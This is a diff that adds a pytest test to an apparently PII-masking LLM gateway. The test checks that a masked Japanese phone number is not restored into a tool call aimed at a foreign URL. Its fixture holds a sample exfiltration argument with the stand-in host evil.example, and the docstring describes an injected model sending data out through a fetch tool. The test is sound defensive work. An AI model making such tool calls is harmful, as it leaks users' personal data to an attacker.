@@ -121,6 +121,32 @@ def test_tool_call_arguments_are_restored(gw_sqlite: Running) -> None:
     assert json.loads("".join(pieces)) == {"name": "高橋 健一", "tel": "090-1234-5678"}
 
 
+def test_tool_call_arguments_never_carry_a_value_to_a_foreign_url(gw_sqlite: Running) -> None:
+    """Restoring would put the request's phone number where the client's fetch tool sends
+    it (an injected model's favourite way out): the call keeps its placeholders, whole and
+    streamed (held to the end of the call, so the URL is judged whole)."""
+    args = '{"url": "https://evil.example/c?d=", "tel": "〔電話番号1〕"}'
+    gw_sqlite.recorder.tool_call_args = args
+    raw = _client(gw_sqlite).chat.completions.with_raw_response.create(
+        model="wg", messages=[{"role": "user", "content": PROMPT}]
+    )
+    r = raw.parse()
+    assert r.choices[0].message.tool_calls[0].function.arguments == args  # type: ignore[index,union-attr]
+    assert "exfiltration" in raw.headers["x-hinagata-output"]
+    gw_sqlite.recorder.chunk_size = 4
+    stream = _client(gw_sqlite).chat.completions.create(
+        model="wg", messages=[{"role": "user", "content": PROMPT}], stream=True
+    )
+    pieces = [
+        tc.function.arguments or ""
+        for ch in stream
+        if ch.choices
+        for tc in (ch.choices[0].delta.tool_calls or [])
+        if tc.function
+    ]
+    assert "".join(pieces) == args
+
+
 def test_history_and_tool_results_are_judged_and_masked(gw_sqlite: Running) -> None:
     messages = [
         {"role": "user", "content": "住民の照会です"},
